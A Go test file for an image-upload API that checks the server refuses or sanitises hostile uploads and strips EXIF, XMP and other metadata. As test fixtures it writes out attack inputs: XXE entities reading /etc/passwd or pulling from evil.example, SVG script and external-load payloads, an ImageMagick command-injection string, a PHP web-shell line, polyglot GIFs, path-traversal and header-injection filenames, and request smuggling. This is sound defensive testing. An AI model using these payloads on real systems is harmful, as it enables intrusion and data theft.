package app_test

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"mime"
	"mime/multipart"
	"net"
	"net/http"
	"net/textproto"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"picora/app/apptest"
	"picora/media"
	"picora/media/strip"
)

// planted is what must never come out of a picture.
const planted = "GPS 52.5163N 13.3777E"

// unharmed checks that a refusal left nothing, and that the server lives on.
func unharmed(t *testing.T, p *apptest.Picora) {
	t.Helper()
	var list struct{ Items []apptest.Image }
	p.Do("GET", "/v1/images", nil).Data(t, &list)
	if len(list.Items) != 0 {
		t.Errorf("the list has %+v", list.Items)
	}
	if f := p.Blobs(); len(f) != 0 {
		t.Errorf("files were left: %v", f)
	}
	if r := p.Do("GET", "/health", nil); r.Status != http.StatusOK {
		t.Errorf("health: %d", r.Status)
	}
}

// served fetches the delivered copy as a stranger and checks what every copy has.
func served(t *testing.T, p *apptest.Picora, i apptest.Image) apptest.Response {
	t.Helper()
	r := p.Do("GET", i.URL, nil, "Authorization", "")
	if r.Status != http.StatusOK || r.Header.Get("Content-Type") != i.MIMEType || r.Header.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.HasPrefix(r.Header.Get("Content-Security-Policy"), "sandbox;") {
		t.Errorf("%s: %d %v", i.URL, r.Status, r.Header)
	}
	return r
}

// chunkPNG is one chunk of a PNG.
func chunkPNG(kind, data string) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	b = append(append(b, kind...), data...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

// insert puts bytes into a file.
func insert(file []byte, at int, b ...[]byte) []byte {
	return bytes.Join([][]byte{file[:at], bytes.Join(b, nil), file[at:]}, nil)
}

func sizePNG(w, h uint32) []byte {
	b := append([]byte("\x89PNG\r\n\x1a\n"), chunkPNG("IHDR", string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h))+"\x08\x02\x00\x00\x00")...)
	return append(append(b, chunkPNG("IDAT", "x\x9c\x03\x00\x00\x00\x00\x01")...), chunkPNG("IEND", "")...)
}

func TestHostileFilesAreRefusedAndLeaveNothing(t *testing.T) {
	p := apptest.Start(t)
	box := func(brand string) []byte {
		return []byte("\x00\x00\x00\x18ftyp" + brand + "\x00\x00\x00\x00" + brand + "mif1" + strings.Repeat("\x00", 100))
	}
	const svgHead = `<svg xmlns="http://www.w3.org/2000/svg">`
	lol := `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "` + strings.Repeat("lol", 100) + `">`
	for i := range 9 {
		lol += fmt.Sprintf(`<!ENTITY %c "%s">`, 'b'+i, strings.Repeat(fmt.Sprintf("&%c;", 'a'+i), 10))
	}
	type attack struct {
		name, file string
		data       []byte
		words      string // in the sentence, in any case of letters
	}
	attacks := []attack{
		{"text that says it was a PNG", "a.png", []byte("just some text"), "not known"},
		{"nothing", "a.jpg", nil, "empty"},
		{"zeros", "a.jpg", make([]byte, 100_000), "not known"},
		{"a PNG of 900 megapixels in 70 bytes", "a.png", sizePNG(30_000, 30_000), "250 megapixels"},
		{"a PNG as wide as can be", "a.png", sizePNG(1<<31-1, 1<<31-1), "megapixels"},
		{"a PNG without width", "a.png", sizePNG(0, 100), "zero"},
		{"a PNG wider than can be", "a.png", sizePNG(1<<32-1, 1<<32-1), ""},
		{"an AVIF named JPEG", "a.jpg", box("avif"), "AVIF"},
		{"a HEIC named JPEG", "a.jpg", box("heic"), "HEIC"},
		{"an MP4 named JPEG", "a.jpg", []byte("\x00\x00\x00\x18ftypisom\x00\x00\x00\x00isommp42" + strings.Repeat("\x00", 100)), "MP4"},
		{"a PDF named JPEG", "a.jpg", []byte("%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj"), "PDF"},
		{"a web page named JPEG", "a.jpg", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), "HTML"},
		{"a web page without a head", "a.jpg", []byte("  <script>alert(1)</script>"), "HTML"},
		{"a ZIP named PNG", "a.png", []byte("PK\x03\x04" + strings.Repeat("x", 100)), "ZIP"},
		{"a program named PNG", "a.png", []byte("\x7fELF" + strings.Repeat("x", 100)), "program"},
		{"a playlist that names a local file", "a.gif", []byte("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"), ""},
		{"an ImageMagick script", "a.png", []byte("push graphic-context\nimage over 0,0 0,0 'https://example.com/x.jpg\"|ls \"-la'\npop graphic-context"), ""},
		{"an SVG with an entity bomb", "a.svg", []byte(lol + "]>" + svgHead + "<text>&j;</text></svg>"), ""},
		{"an SVG with an external entity", "a.svg", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + svgHead + "<text>&x;</text></svg>"), ""},
		{"an SVG with an external parameter entity", "a.svg", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>` + svgHead + "</svg>"), ""},
		{"an SVG of great depth", "a.svg", []byte(svgHead + strings.Repeat("<g>", 50_000) + strings.Repeat("</g>", 50_000) + "</svg>"), ""},
		{"an SVG above its limit", "a.svg", []byte(svgHead + strings.Repeat(`<rect width="1"/>`, 200_000) + "</svg>"), ""},
		{"an SVG that does not end", "a.svg", []byte(svgHead + "<g>"), ""},
		{"a GIF header alone", "a.gif", []byte("GIF89a"), ""},
		{"a GIF header with a script", "a.gif", []byte("GIF89a/*\x00\x00\x00\x00*/=1;alert(1)"), ""},
		{"a WebP header alone", "a.webp", []byte("RIFF\x00\x00\x00\x00WEBP"), ""},
	}
	for name, whole := range map[string][]byte{"jpg": apptest.JPEG(60, 60, 1), "png": apptest.PNG(60, 60, 2)} {
		for n := range 16 {
			attacks = append(attacks, attack{fmt.Sprintf("%d/16 of a %s", n, name), "a." + name, whole[:len(whole)*n/16], ""})
		}
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			start := time.Now()
			r := p.Upload(a.file, a.data)
			if r.Status != http.StatusUnprocessableEntity || r.Code() != "VALIDATION_ERROR" {
				t.Errorf("%d %s, want 422", r.Status, r.Body)
			}
			if !strings.Contains(strings.ToLower(string(r.Body)), strings.ToLower(a.words)) {
				t.Errorf("the sentence %s does not name %q", r.Body, a.words)
			}
			if bytes.Contains(r.Body, []byte("root:")) || len(r.Body) > 500 {
				t.Errorf("the answer is %.1000s", r.Body)
			}
			if took := time.Since(start); took > time.Minute {
				t.Errorf("it took %s", took)
			}
			unharmed(t, p)
		})
	}
}

func TestHostileFormsAreRefusedAndLeaveNothing(t *testing.T) {
	p := apptest.Start(t)
	picture := string(apptest.PNG(20, 20, 1))
	const kind = "multipart/form-data; boundary=b"
	part := func(header, body string) string { return "--b\r\n" + header + "\r\n\r\n" + body + "\r\n" }
	field := func(name, value string) string { return part(`Content-Disposition: form-data; name="`+name+`"`, value) }
	file := part(`Content-Disposition: form-data; name="file"; filename="a.png"`, picture)
	const end = "--b--\r\n"
	var many strings.Builder
	for i := range 10_000 {
		many.WriteString(field(fmt.Sprintf("f%d", i), "x"))
	}
	cases := []struct {
		name, kind, body string
		status           int
		words            string
	}{
		{"10,000 fields before the file", kind, many.String() + file + end, 422, "100 fields"},
		{"10,000 fields behind the file", kind, file + many.String() + end, 422, "100 fields"},
		{"a field of 1 MB before the file", kind, field("title", strings.Repeat("x", 1<<20)) + file + end, 422, "too l"},
		{"a field of 1 MB behind the file", kind, file + field("title", strings.Repeat("x", 1<<20)) + end, 422, "too l"},
		{"90 fields of 60 KB", kind, strings.Repeat(field("a", strings.Repeat("x", 60<<10)), 90) + file + end, 422, "1 MB"},
		{"a part with a header of 2 MB", kind, part("X-A: "+strings.Repeat("x", 2<<20), "") + file + end, 0, ""},
		{"a part with 50,000 headers", kind, part(strings.Repeat("X-A: x\r\n", 50_000)+"X-B: y", "") + file + end, 0, ""},
		{"no file", kind, field("title", "x") + end, 422, "no file"},
		{"a part that has no name at all", kind, part("Content-Disposition: form-data", picture) + end, 422, "no file"},
		{"a part without headers", kind, part("", picture) + end, 0, ""},
		{"two files", kind, file + file + end, 422, "one file"},
		{"an empty form", kind, end, 422, "no file"},
		{"no body", kind, "", 400, ""},
		{"a file that does not end", kind, file[:len(file)-2], 400, "broke off"},
		{"a form that does not end", kind, file, 400, "broke off"},
		{"a boundary that is not that", "multipart/form-data; boundary=c", file + end, 400, ""},
		{"no boundary", "multipart/form-data", file + end, 400, "multipart/form-data"},
		{"an endless boundary", "multipart/form-data; boundary=" + strings.Repeat("b", 5000), file + end, 400, ""},
		{"a boundary of space", `multipart/form-data; boundary=" "`, file + end, 400, ""},
		{"a JSON body", "application/json", `{"file":"x"}`, 400, "multipart/form-data"},
		{"no type", "", file + end, 400, "multipart/form-data"},
		{"a mixed form", "multipart/mixed; boundary=b", file + end, 400, "multipart/form-data"},
		{"tags that are no list", kind, field("tags", `["a",`) + file + end, 422, "tags"},
		{"tags that are a bomb", kind, field("tags", strings.Repeat("[", 60_000)) + file + end, 422, ""},
		{"1,000 tags", kind, field("tags", strings.Repeat("a,b,c,d,e,", 10)+manyTags(1000)) + file + end, 422, "tags"},
		{"a title of 10,000 letters", kind, field("title", strings.Repeat("x", 10_000)) + file + end, 422, "255"},
		{"a truth that is none", kind, field("isPublic", "perhaps") + file + end, 422, "isPublic"},
		{"a collection that is not there", kind, field("kbId", "../../x") + file + end, 404, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := p.Do("POST", "/v1/images", strings.NewReader(c.body), "Content-Type", c.kind)
			if c.status != 0 && r.Status != c.status || r.Status < 400 || r.Status >= 500 || r.Code() == "" {
				t.Errorf("%d %s, want %d", r.Status, r.Body, c.status)
			}
			if !strings.Contains(string(r.Body), c.words) || len(r.Body) > 500 {
				t.Errorf("the answer is %.1000s, want %q in it", r.Body, c.words)
			}
			unharmed(t, p)
		})
	}
}

func manyTags(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "tag%d,", i)
	}
	return b.String()
}

func TestHostileLengthsLeaveNothing(t *testing.T) {
	p := apptest.Start(t)
	body, kind := apptest.Form("a.png", apptest.PNG(20, 20, 1))
	send := func(length int, body, then string) (statuses []int) {
		c, err := net.Dial("tcp", strings.TrimPrefix(p.URL, "http://"))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(time.Minute))
		fmt.Fprintf(c, "POST /v1/images HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s%s", p.Key, kind, length, body, then)
		c.(*net.TCPConn).CloseWrite()
		br := bufio.NewReader(c)
		for {
			r, err := http.ReadResponse(br, nil)
			if err != nil {
				return statuses
			}
			if _, err := io.Copy(io.Discard, r.Body); err != nil {
				t.Fatal(err)
			}
			statuses = append(statuses, r.StatusCode)
		}
	}
	for _, claimed := range []int{len(body) + 1, len(body) + 1000, 1 << 20, 40 << 20} {
		if s := send(claimed, string(body), ""); len(s) > 1 || len(s) == 1 && (s[0] < 400 || s[0] >= 500) {
			t.Errorf("%d bytes of %d: %v", len(body), claimed, s)
		}
		unharmed(t, p)
	}
	if s := send(1<<50, strings.Repeat("x", 20<<10), ""); len(s) != 1 || s[0] != http.StatusUnprocessableEntity {
		t.Errorf("a petabyte: %v", s)
	}
	steal := fmt.Sprintf("DELETE /v1/images HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %s\r\n\r\n", p.Key)
	if s := send(len(body)/2, string(body), ""); len(s) == 0 || s[0] != http.StatusBadRequest || len(s) == 2 && s[1] != http.StatusBadRequest || len(s) > 2 {
		t.Errorf("half of the body is beyond its length: %v", s)
	}
	unharmed(t, p)
	rejected := strings.Repeat(steal, 100)
	if s := send(len(rejected), rejected, "GET /health HTTP/1.1\r\nHost: a\r\n\r\n"); len(s) != 2 || s[0] != http.StatusBadRequest || s[1] != http.StatusOK {
		t.Errorf("requests inside a refused body, and one behind it: %v", s)
	}
	unharmed(t, p)
}

func TestHostileNamesComeBackSafe(t *testing.T) {
	p := apptest.Start(t)
	seed := uint64(100)
	for _, disposition := range []string{
		`form-data; name="file"; filename="../../../etc/passwd.png"`,
		`form-data; name="file"; filename="..\\..\\win.png"`,
		`form-data; name="file"; filename="C:\Users\me\a.png"`,
		"form-data; name=\"file\"; filename=\"a\x00b.png\"",
		"form-data; name=\"file\"; filename=\"photo\u202egnp.exe\"",
		"form-data; name=\"file\"; filename=\"\u2066\u200b\ufeff\"",
		`form-data; name="file"; filename="` + strings.Repeat("x", 300) + `.png"`,
		`form-data; name="file"; filename="` + strings.Repeat("🏖", 300) + `.png"`,
		`form-data; name="file"; filename="a\"b'c<script>alert(1)</script>.png"`,
		`form-data; name="file"; filename="a%0d%0aX-Evil: 1.png"`,
		`form-data; name="file"; filename*=UTF-8''a%0d%0aX-Evil%3A%201%0d%0a%0d%0a.png`,
		`form-data; name="file"; filename*=UTF-8''..%2F..%2F%00evil.png`,
		`form-data; name="file"; filename="🏖 Strand – été 海.png"`,
		"form-data; name=\"file\"; filename=\"\xff\xfe\xc0\xae.png\"",
		`form-data; name="file"; filename=""`,
		`form-data; name="file"; filename="."`,
		`form-data; name="file"; filename=".."`,
		`form-data; name="file"; filename="/"`,
		`form-data; name="file"`,
		`form-data; filename="no-name.png"`,
		`form-data; name="../x"; filename="a.png"`,
		`form-data; name="file"; filename="a.html"`,
		`form-data; name="file"; filename="a.png.exe"`,
		`form-data; name="file"; filename="CON"`,
		`form-data; name="file"; filename="a.png"; filename="b.html"`,
		`form-data; name="file"; filename="unfinished`,
	} {
		seed++
		var b bytes.Buffer
		b.WriteString("--b\r\nContent-Disposition: " + disposition + "\r\nContent-Type: text/html\r\n\r\n")
		b.Write(apptest.PNG(9, 9, seed))
		b.WriteString("\r\n--b--\r\n")
		r := p.Do("POST", "/v1/images", &b, "Content-Type", "multipart/form-data; boundary=b")
		if r.Status != http.StatusCreated {
			if r.Status < 400 || r.Status >= 500 || r.Code() == "" {
				t.Errorf("%.80q: %d %s", disposition, r.Status, r.Body)
			}
			continue
		}
		var i apptest.Image
		r.Data(t, &i)
		for _, name := range []string{i.Filename} {
			if name == "" || name == "." || name == ".." || len(name) > 255 || !utf8.ValidString(name) || strings.ContainsAny(name, `/\`) ||
				strings.ContainsFunc(name, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) {
				t.Errorf("%.80q came back as %q", disposition, name)
			}
		}
		if bytes.Contains(r.Body, []byte("<script>")) {
			t.Errorf("%.80q: markup in JSON is not escaped: %s", disposition, r.Body)
		}
		if i.MIMEType != "image/png" || !strings.HasSuffix(i.URL, "/"+i.ID+".png") {
			t.Errorf("%.80q: %s at %s", disposition, i.MIMEType, i.URL)
		}
		for _, r := range []apptest.Response{r, served(t, p, i), p.Do("GET", "/v1/images/"+i.ID, nil)} {
			if r.Header.Get("X-Evil") != "" {
				t.Errorf("%.80q: a header was smuggled in", disposition)
			}
		}
	}
	if r := p.Do("GET", "/v1/images?limit=50", nil); r.Status != http.StatusOK || !utf8.Valid(r.Body) {
		t.Errorf("the list: %d", r.Status)
	}
}

func TestHostileSVGIsDeliveredHarmless(t *testing.T) {
	p := apptest.Start(t)
	hostile := `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50" onload="alert(1)">
<script>alert(2)</script><script href="https://evil.example/x.js"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
<image href="https://evil.example/track.png" width="1" height="1"/><image xlink:href="file:///etc/passwd"/>
<use href="https://evil.example/x.svg#a"/><a href="javascript:alert(3)"><rect width="10" height="10" onclick="alert(4)"/></a>
<style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/f) }</style>
<rect style="background:url('//evil.example/b')" width="20" height="20" fill="red"/>
<animate attributeName="href" to="javascript:alert(5)"/><set attributeName="onload" to="alert(6)"/>
<text>` + planted + `</text><!-- ` + planted + ` <script>alert(7)</script> --><metadata>` + planted + `</metadata></svg>
<script>alert(8)</script>`
	i := p.Add("a.png", []byte(hostile)) // the name counts for nothing
	if i.MIMEType != "image/svg+xml" || !strings.HasSuffix(i.URL, ".svg") || *i.Width != 100 || *i.Height != 50 {
		t.Errorf("%+v", i)
	}
	body := strings.ToLower(string(served(t, p, i).Body))
	for _, bad := range []string{"script", "alert", "onload", "onclick", "foreignobject", "iframe", "evil.example", "javascript", "file:", "@import", "<!--", "metadata", "<!doctype", "<!entity"} {
		if strings.Contains(body, bad) {
			t.Errorf("%q is delivered: %s", bad, body)
		}
	}
	if !strings.Contains(body, "<rect") || strings.Count(body, strings.ToLower(planted)) != 1 {
		t.Errorf("the drawing itself is gone: %s", body)
	}
	kept := p.Add("b.svg", []byte(strings.Replace(hostile, `height="50"`, `height="51"`, 1)), "keepMetadata", "true")
	if body := served(t, p, kept).Body; bytes.Contains(body, []byte("script")) || bytes.Contains(body, []byte("evil")) {
		t.Errorf("keepMetadata keeps scripts: %s", body)
	}
}

func TestHostilePolyglotsLoseTheirTail(t *testing.T) {
	p := apptest.Start(t)
	const js = "/*\"'*/;alert(document.domain)//"
	clean := apptest.GIF(20, 20, 2, 1)
	comment := "\x21\xfe" + string(rune(len(js))) + js + "\x00"
	for name, file := range map[string][]byte{
		"behind the trailer":  append(bytes.Clone(clean), "\n<script>"+js+"</script>PK\x03\x04"...),
		"in a comment":        insert(clean, len(clean)-1, []byte(comment)),
		"in both":             append(insert(clean, len(clean)-1, []byte(comment)), js...),
		"behind two trailers": append(bytes.Clone(clean), ";"+js+";"...),
	} {
		i := p.Add("a.js", file, "title", name)
		r := served(t, p, i)
		if i.MIMEType != "image/gif" || len(r.Body) == 0 || r.Body[len(r.Body)-1] != ';' || bytes.Contains(r.Body, []byte("alert")) || bytes.Contains(r.Body, []byte("script")) {
			t.Errorf("%s: %s, %d bytes of %d: %q", name, i.MIMEType, len(r.Body), len(file), r.Body[max(0, len(r.Body)-60):])
		}
	}
	for ext, file := range map[string][]byte{"jpg": apptest.JPEG(20, 20, 3), "png": apptest.PNG(20, 20, 4)} {
		i := p.Add("a.php", append(bytes.Clone(file), "<?php system($_GET['c']); ?>"+js...))
		if r := served(t, p, i); !strings.HasSuffix(i.URL, "."+ext) || bytes.Contains(r.Body, []byte("php")) || bytes.Contains(r.Body, []byte("alert")) {
			t.Errorf("%s: the tail is delivered", ext)
		}
	}
}

func TestHostileDeclaredTypesCountForNothing(t *testing.T) {
	p := apptest.Start(t)
	for n, declared := range []string{"text/html", "image/svg+xml", "application/x-httpd-php", "text/html; charset=utf-7", ""} {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		h := textproto.MIMEHeader{"Content-Disposition": {mime.FormatMediaType("form-data", map[string]string{"name": "file", "filename": "page.html"})}}
		if declared != "" {
			h.Set("Content-Type", declared)
		}
		part, err := w.CreatePart(h)
		if err != nil {
			t.Fatal(err)
		}
		part.Write(apptest.JPEG(20, 20, uint64(n)))
		w.Close()
		var i apptest.Image
		p.Do("POST", "/v1/images", &b, "Content-Type", w.FormDataContentType()).Data(t, &i)
		if r := served(t, p, i); i.MIMEType != "image/jpeg" || r.Header.Get("Content-Type") != "image/jpeg" || !strings.HasSuffix(i.URL, ".jpg") {
			t.Errorf("declared as %q: %s at %s", declared, i.MIMEType, i.URL)
		}
	}
}

// exifWith is EXIF with a secret and an orientation.
func exifWith(orientation byte) string {
	tiff := "MM\x00*\x00\x00\x00\x08\x00\x02" +
		"\x01\x0f\x00\x02\x00\x00\x00" + string(rune(len(planted)+1)) + "\x00\x00\x00\x26" +
		"\x01\x12\x00\x03\x00\x00\x00\x01\x00" + string(rune(orientation)) + "\x00\x00"
	return tiff + "\x00\x00\x00\x00" + planted + "\x00"
}

func TestHostileEyesSeeNoMetadata(t *testing.T) {
	p := apptest.Start(t)
	segment := func(marker byte, data string) []byte {
		return append(binary.BigEndian.AppendUint16([]byte{0xFF, marker}, uint16(len(data)+2)), data...)
	}
	jpeg := func(seed uint64) []byte {
		return insert(apptest.JPEG(60, 40, seed), 2,
			segment(0xE1, "Exif\x00\x00"+exifWith(6)),
			segment(0xE1, "http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>"+planted+"</x:xmpmeta>"),
			segment(0xED, "Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x15"+planted+"\x00"),
			segment(0xFE, "comment "+planted))
	}
	png := func(seed uint64) []byte {
		return insert(apptest.PNG(60, 40, seed), 33,
			chunkPNG("tEXt", "Comment\x00"+planted),
			chunkPNG("iTXt", "XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta>"+planted+"</x:xmpmeta>"),
			chunkPNG("eXIf", exifWith(6)),
			chunkPNG("prVt", planted))
	}
	gif := func(seed uint64) []byte {
		g := apptest.GIF(60, 40, 2, seed)
		return insert(g, len(g)-1, []byte("\x21\xfe"+string(rune(len(planted)))+planted+"\x00"),
			[]byte("\x21\xff\x0bXMP DataXMP"+string(rune(len(planted)))+planted+"\x00"))
	}
	for _, c := range []struct {
		kind        media.Type
		make        func(uint64) []byte
		orientation int
	}{{media.JPEG, jpeg, 6}, {media.PNG, png, 6}, {media.GIF, gif, 1}} {
		t.Run(c.kind.Ext, func(t *testing.T) {
			file := c.make(1)
			i := p.Add(planted+"."+c.kind.Ext, file)
			r := served(t, p, i)
			if bytes.Contains(r.Body, []byte(planted)) || bytes.Contains(r.Body, []byte("xmpmeta")) {
				t.Error("metadata is delivered")
			}
			rep, err := strip.Walk(bytes.NewReader(r.Body), c.kind, strip.Limits{})
			if err != nil || rep.Plan != nil || rep.Orientation != c.orientation {
				t.Errorf("what is delivered: %+v %v, want orientation %d", rep, err, c.orientation)
			}
			if w, h := *i.Width, *i.Height; c.orientation == 6 && (w != 40 || h != 60) || c.orientation == 1 && (w != 60 || h != 40) {
				t.Errorf("shown as %d x %d", w, h)
			}
			if i.SizeBytes != int64(len(file)) {
				t.Errorf("%d bytes counted, %d sent", i.SizeBytes, len(file))
			}
			whole := c.make(2)
			kept := p.Add("kept."+c.kind.Ext, whole, "keepMetadata", "true")
			if r := served(t, p, kept); !bytes.Equal(r.Body, whole) {
				t.Errorf("with keepMetadata %d bytes of %d come back", len(r.Body), len(whole))
			}
			for _, answer := range []apptest.Response{p.Do("GET", "/v1/images/"+kept.ID, nil), p.Do("GET", i.URL, nil, "Range", "bytes=0-300")} {
				answer.Body = bytes.Replace(answer.Body, []byte(`"camera":"`+planted+`"`), nil, 1) // the owner may know the maker
				if answer.Status >= 400 || bytes.Contains(answer.Body, []byte(planted)) || bytes.Contains(answer.Body, []byte(base64.StdEncoding.EncodeToString([]byte(planted)))) {
					t.Errorf("%d: the metadata shows elsewhere: %q", answer.Status, answer.Body)
				}
			}
		})
	}
}
